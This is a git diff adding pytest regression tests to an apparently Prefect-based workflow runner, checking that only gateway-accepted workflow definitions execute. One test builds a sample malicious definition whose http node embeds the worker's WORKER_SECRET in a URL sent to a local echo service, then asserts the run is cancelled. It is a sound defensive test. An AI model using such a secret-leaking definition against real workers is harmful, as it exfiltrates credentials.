@@ -10,15 +10,16 @@ from pathlib import Path
 import duckdb
 import pytest
 
-from app.runs.store import RunStore
+from app.runs.store import NewRun, RunStore
 from connectors.isolated import run_connector_isolated
 from connectors.pipeline import Workspace, duckdb_path
 from connectors.spec import ConnectorSpec
 from flows.connector_lock import ConnectorLock, LockLost
 from flows.nodes import NodeFailed
 from flows.prefect import connector_flow
-from flows.prefect.workflow_flow import connector_runner
+from flows.prefect.workflow_flow import connector_runner, not_as_accepted, workflow_flow
 from flows.runtime import RuntimeSettings
+from tests.fake_services import EchoService
 
 SLOW = {"id": "slow", "dataset": "raw",  # its extract takes 20 s: the step the lease is lost in
         "source": {"kind": "python", "ref": "connectors.demo:numbers", "args": {"n": 5, "delay_seconds": 20}}}
@@ -104,3 +105,56 @@ def test_the_flows_steps_each_in_a_process_of_its_own_sum_up_to_a_whole_runs_sum
         "cursor_path": "updated_at", "from": None, "to": "2025-01-01T00:00:04", "rows": 5}
     assert steps["schema_changes"] == whole["schema_changes"] and "events" in whole["schema_changes"]
     assert (steps["rows"], len(steps["load_ids"]), steps["merge"]) == (whole["rows"], 1, whole["merge"])
+
+
+GREET = {"id": "greet", "nodes": [{"id": "start", "type": "trigger"},
+                                  {"id": "say", "type": "transform", "config": {"value": "hello"}}],
+         "connections": [{"from": "start", "to": "say"}]}
+
+
+def _accepted(store: RunStore, definition: dict, from_file: bool):
+    """A workflow run as a gateway stores it for Prefect: what the flow run's parameters must repeat."""
+    params = {"inputs": {}, "mode": "optimized", "from_file": from_file, "workflow": definition}
+    run, _ = store.create_run(NewRun(kind="workflow", target=definition["id"], params=params, backend="prefect",
+                                     concurrency_key=f"workflow-run:{definition['id']}"))
+    return run, {**params, "reuse": None}
+
+
+def test_a_workflow_flow_run_executes_only_the_definition_the_gateway_accepted(tmp_path: Path):
+    store = RunStore(f"sqlite:///{tmp_path / 'runs.db'}")
+    store.create_schema()
+    try:
+        run, given = _accepted(store, GREET, from_file=True)
+        assert not_as_accepted(store.db, run.id, given) is None
+        say_x = {"id": "say", "type": "transform", "config": {"value": "${X}"}}
+        other = {**GREET, "nodes": [*GREET["nodes"][:1], say_x]}
+        assert "workflow" in not_as_accepted(store.db, run.id, {**given, "workflow": other})
+        inline, inline_given = _accepted(store, GREET, from_file=False)
+        assert "from_file" in not_as_accepted(store.db, inline.id, {**inline_given, "from_file": True})
+        assert "inputs" in not_as_accepted(store.db, run.id, {**given, "inputs": {"x": 1}})
+        connector_run, _ = store.create_run(NewRun(kind="connector", target="numbers", params={}, backend="prefect",
+                                                   concurrency_key="connector:numbers"))
+        assert "has no workflow run" in not_as_accepted(store.db, connector_run.id, given)
+    finally:
+        store.dispose()
+
+
+def test_a_definition_sent_straight_to_prefect_never_reads_the_workers_environment(tmp_path: Path, monkeypatch):
+    """Review C1: anyone reaching Prefect's API could run a definition of their own with `from_file: true`, whose
+    ${VAR}s the worker filled in from its environment and sent to an allowed host."""
+    echo = EchoService()
+    store = RunStore(f"sqlite:///{tmp_path / 'runs.db'}")
+    store.create_schema()
+    monkeypatch.setenv("DATABASE_URL", f"sqlite:///{tmp_path / 'runs.db'}")
+    monkeypatch.setenv("FLOWGATE_HTTP_ALLOWED_HOSTS", f"127.0.0.1:{echo.port}")
+    monkeypatch.setenv("WORKER_SECRET", "s3cr3t-of-the-worker")
+    try:
+        run, given = _accepted(store, GREET, from_file=True)  # an active run, whose id Prefect's API shows
+        stealing = {"id": "greet", "nodes": [{"id": "leak", "type": "http",
+                                              "config": {"url": f"{echo.url}/items/1?k=${{WORKER_SECRET}}"}}]}
+        state = workflow_flow.fn(run.id, stealing, {}, "optimized", True, None)
+        assert state.type.value == "CANCELLED" and "not what the gateway accepted" in state.message
+    finally:
+        store.dispose()
+        echo.stop()
+    assert echo.requests == []
